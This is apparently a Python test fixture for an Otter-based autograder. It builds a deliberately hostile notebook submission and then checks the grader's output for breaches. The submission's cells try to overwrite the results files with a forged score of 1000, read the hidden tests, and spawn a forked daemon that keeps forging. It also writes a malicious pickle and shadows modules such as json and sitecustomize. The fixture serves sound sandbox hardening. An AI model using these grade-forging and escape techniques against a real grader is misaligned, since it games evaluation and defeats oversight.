"""A submission that is right, and tries to write its own marks all the same."""

from __future__ import annotations

import json
import pickle
import re
from pathlib import Path
from typing import Any

import nbformat

MARK = "/tmp/mark-"

# What it manages to do, it says in an exception: Otter's output quotes that.
_SAYS = "What I could do: "

_TOOLS = """\
import json, os, time

def attempt(act):
    try:
        return act()
    except BaseException as error:
        return type(error).__name__

def forge():
    for name in ("results.json", "results.pkl"):
        with open("/autograder/results/" + name, "w") as file:
            json.dump({"score": 1000, "tests": []}, file)
    return "written"

"""

_ATTACK = f"""\
proof = {{
    "uid": os.getuid(),
    "tests": attempt(lambda: len(os.listdir("/autograder/source/tests"))),
    "suite": attempt(lambda: len(open("/autograder/source/files/cnn_autograder/tests/"
                                      "conv2d/test_q2_forward.py").read())),
    "results": attempt(forge),
    "module": attempt(lambda: open("/autograder/submission/json.py", "w").write("1/0")),
}}
raise RuntimeError({_SAYS!r} + json.dumps(proof))
"""

_DAEMON = """\
def haunt():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for _ in range(1000):
        attempt(forge)
        time.sleep(0.1)
    os._exit(0)

attempt(haunt)
"""

_SHADOWS = ("otter", "logging", "json", "numpy", "sitecustomize", "ipykernel", "dill", "nbformat")


class _Mark:
    """Unpickled, it leaves a mark."""

    def __reduce__(self) -> tuple[object, ...]:
        return open, (f"{MARK}log", "w")


def write_hostile(folder: Path, reference: Path) -> Path:
    """Fill a folder with the submission; its notebook.

    Args:
        folder: what is handed in.
        reference: a notebook with the right answers.
    """
    notebook = nbformat.read(reference, as_version=4)
    notebook.cells[:0] = [
        nbformat.v4.new_code_cell(source) for source in (_TOOLS, _DAEMON, _ATTACK)
    ]
    path = folder / "hostile.ipynb"
    nbformat.write(notebook, path)
    (folder / ".OTTER_LOG").write_bytes(pickle.dumps(_Mark()))
    for module in _SHADOWS:
        source = f"open({MARK + module!r}, 'w')\nraise SystemExit\n"
        (folder / f"{module}.py").write_text(source, "utf-8")
    for inner in ("tests", "cnn_autograder/autograder"):
        (folder / inner).mkdir(parents=True)
    (folder / "tests" / "q1.py").write_text(f"open({MARK + 'tests'!r}, 'w')\n", "utf-8")
    engine = folder / "cnn_autograder" / "autograder" / "__init__.py"
    engine.write_text(f"open({MARK + 'engine'!r}, 'w')\n", "utf-8")
    return path


def proof_in(said: str) -> Any:
    """What the submission says that it could do, in Otter's output; None where it is not there."""
    match = re.search(re.escape(_SAYS) + r"(\{.*?\})", said)
    return json.loads(match[1]) if match else None


def breaches(proof: Any) -> list[str]:
    """What it could do and must not."""
    if not isinstance(proof, dict):
        return ["what the hostile submission says of itself is not in Otter's output"]
    found = [
        f"could reach its {name}: {said}"
        for name, said in proof.items()
        if name != "uid" and said not in {"PermissionError", "FileNotFoundError"}
    ]
    return found + (["ran as root"] if proof["uid"] == 0 else [])
